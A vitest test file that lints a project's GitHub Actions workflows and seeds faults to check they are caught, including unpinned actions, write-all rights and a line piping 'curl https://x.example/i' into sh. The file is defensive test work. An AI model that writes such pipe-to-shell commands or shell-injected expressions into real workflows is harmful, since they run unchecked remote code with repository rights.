import { globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { parse } from 'yaml'
import { checkWorkflow } from '../support/workflows.ts'

const root = join(import.meta.dirname, '../..')
const paths = globSync('.github/workflows/*', { cwd: root })
const read = (path: string): string => readFileSync(join(root, path), 'utf8')
const workflow = (name: string): string => `.github/workflows/${name}.yml`

test('there are workflows to test, scan, release and deploy', () => {
  expect(paths.toSorted()).toEqual(['deploy', 'release', 'scan', 'test'].map(workflow))
})

test.each(paths)('%s', async (path) => {
  expect(await checkWorkflow(read(path), path)).toEqual([])
})

describe('a seeded fault is caught:', () => {
  const checkout = 'actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1'
  const faults: [what: string, name: string, from: string | RegExp, to: string, finding: RegExp][] = [
    ['an unknown key', 'test', 'timeout-minutes:', 'timeout-minute:', /unexpected key "timeout-minute"/],
    ['an unknown event', 'test', 'pull_request:', 'pull_requests:', /unknown Webhook event "pull_requests"/],
    ['an unknown runner', 'test', 'ubuntu-24.04', 'ubuntu-24.4', /label "ubuntu-24\.4" is unknown/],
    [
      'a job that is not there',
      'release',
      'needs: [name, test, scan]',
      'needs: [name, tests, scan]',
      /"tests" which does not exist|needs job "tests"/,
    ],
    [
      'an output that is not there',
      'release',
      /needs\.name\.outputs\.tag/,
      'needs.name.outputs.tga',
      /property "tga" is not defined/,
    ],
    ['an input that is not there', 'deploy', 'inputs.tag', 'inputs.tga', /property "tga" is not defined/],
    [
      'an expression that does not parse',
      'deploy',
      "vars.TARGET == 'host'",
      "vars.TARGET == 'host",
      /parsing|unexpected|string literal/,
    ],
    ['a schedule that never comes', 'scan', '17 5 * * 1', '17 25 * * 1', /invalid CRON format|25/],
    [
      'an input of another workflow',
      'release',
      'environment: staging',
      'enviroment: staging',
      /input enviroment, which it does not have[^]*the input environment/,
    ],
    [
      'a deployment that does not say what it releases',
      'release',
      '      release: ${{ github.ref_name }}\n',
      '',
      /does not give .*deploy\.yml the input release/,
    ],
    [
      'rights to write all',
      'test',
      'permissions:\n  contents: read',
      'permissions: write-all',
      /not declared as reading only/,
    ],
    ['rights not declared', 'scan', 'permissions:\n  contents: read', '', /not declared as reading only/],
    ['a right nobody needs', 'release', 'packages: write', 'actions: write', /job image may write actions/],
    ['an action by its tag', 'test', checkout, 'actions/checkout@v7', /checkout@v7 is not pinned/],
    ['an action by a branch', 'scan', checkout, 'actions/checkout@main', /checkout@main is not pinned/],
    ['a commit without its version', 'test', ' # v7.0.1', '', /does not say its version/],
    ['two deployments at once', 'deploy', /concurrency:\n( {2}.*\n)+/, '', /two runs at once/],
    ['a run that waits and is dropped', 'deploy', '  queue: max\n', '', /cancels those that wait/],
    ['a way to wait that is none', 'release', 'queue: max', 'queues: max', /unexpected key "queues"/],
    [
      'a run that is dropped and kept',
      'release',
      'cancel-in-progress: false',
      'cancel-in-progress: true',
      /cannot cancel and keep/,
    ],
    ['a job without an end', 'deploy', '    timeout-minutes: 350\n', '', /job deploy may run for ever/],
    [
      'a failure that does not count',
      'test',
      '    timeout-minutes: 60\n',
      '    timeout-minutes: 60\n    continue-on-error: true\n',
      /goes on after a failure/,
    ],
    ['an image that moves', 'test', 'node:24.21.0-bookworm', 'node:lts', /runs in node:lts, which moves/],
    ['a token in the folder', 'test', 'persist-credentials: false', 'fetch-depth: 1', /leaves a token/],
    [
      'what a stranger wrote in the shell',
      'deploy',
      '"$URL"',
      '"${{ inputs.tag }}"',
      /puts an expression into the shell/,
    ],
    [
      'a script that is not there',
      'release',
      'deploy/release.ts',
      'deploy/relase.ts',
      /relase\.ts, which is not there/,
    ],
    [
      'a workflow that is not there',
      'release',
      './.github/workflows/scan.yml',
      './.github/workflows/scans.yml',
      /scans\.yml/,
    ],
    [
      'a script of strangers',
      'scan',
      'sudo apt-get update -qq',
      'curl -sSf https://x.example/i | sh',
      /what nobody checked/,
    ],
    [
      'a failure hidden',
      'scan',
      'npm audit --omit=dev --audit-level=high',
      'npm audit || true',
      /hides a failure/,
    ],
    [
      'a program in a workflow',
      'scan',
      'sudo apt-get update -qq',
      Array(9).fill('echo x').join('\n          '),
      /is a script/,
    ],
  ]
  test.each(faults)('%s', async (_, name, from, to, finding) => {
    const before = read(workflow(name))
    const after = before.replaceAll(typeof from === 'string' ? from : new RegExp(from, 'g'), () => to)
    expect(after).not.toBe(before)
    expect((await checkWorkflow(after, workflow(name))).join('\n')).toMatch(finding)
  })
})

describe('what the product asks for', () => {
  test('a release is tested and scanned, built for two processors with provenance and bill of materials, then deployed', () => {
    const text = read(workflow('release'))
    for (const part of [
      '{ processor: amd64, runner: ubuntu-24.04 }',
      '{ processor: arm64, runner: ubuntu-24.04-arm }',
      'push-by-digest=true',
      'provenance: mode=max',
      'sbom: true',
      'attest-build-provenance',
      'needs: [name, test, scan]',
    ])
      expect(text).toContain(part)
    expect(text).not.toContain('latest')
  })

  const jobs: Record<string, { needs?: string | string[]; if?: string; steps?: { uses?: string }[] }> = parse(
    read(workflow('release')),
  ).jobs

  test('what can be done again does not stand with what cannot, and nothing waits for the attestation', () => {
    const steps = jobs['image']?.steps ?? []
    expect(steps.at(-1)).toMatchObject({ name: 'Both under one tag' })
    expect(JSON.stringify(steps)).not.toContain('attest-build')
    for (const [name, { needs = [] }] of Object.entries(jobs))
      expect([name, [needs].flat()]).toEqual([name, expect.not.arrayContaining(['attestation'])])
  })

  test('a version before its time is called so and goes no further than staging', () => {
    expect(jobs['production']?.if).toBe("${{ !contains(needs.name.outputs.version, '-') }}")
    expect(JSON.stringify(jobs['notes'])).toMatch(
      /"BEFORE_ITS_TIME":"\$\{\{ contains\(needs\.name\.outputs\.version, '-'\) \}\}".* --prerelease=\\"\$BEFORE_ITS_TIME/,
    )
  })

  test('what is not to replace a newer one is not deployed: production waits for staging', () => {
    expect(jobs['staging']?.if).toBe("${{ needs.name.outputs.newer == '' }}")
    expect(jobs['production']?.needs).toContain('staging')
    // Without all tags nobody knows of a newer one.
    expect(jobs['name']?.steps?.[0]).toMatchObject({ with: { 'fetch-depth': 0 } })
  })

  test('a job that is run again looks for newer ones itself, before it sets anything; by hand an older one may be set', () => {
    for (const name of ['staging', 'production'])
      expect(jobs[name]).toMatchObject({ with: { release: '${{ github.ref_name }}' } })
    const { on, jobs: own } = parse(read(workflow('deploy')))
    const [checkout, guard] = own.deploy.steps
    expect(checkout).toMatchObject({ with: { 'fetch-depth': 0 } })
    expect(guard).toMatchObject({
      name: 'A newer one that is tagged by now is not replaced',
      if: "inputs.release != ''",
      env: { RELEASE: '${{ inputs.release }}' },
    })
    expect(on.workflow_call.inputs.release.required).toBe(true)
    expect(on.workflow_dispatch.inputs).not.toHaveProperty('release')
  })

  test('a deployment is never stopped half-way', () => {
    for (const name of ['deploy', 'release'])
      expect(read(workflow(name))).toContain('cancel-in-progress: false')
  })
})
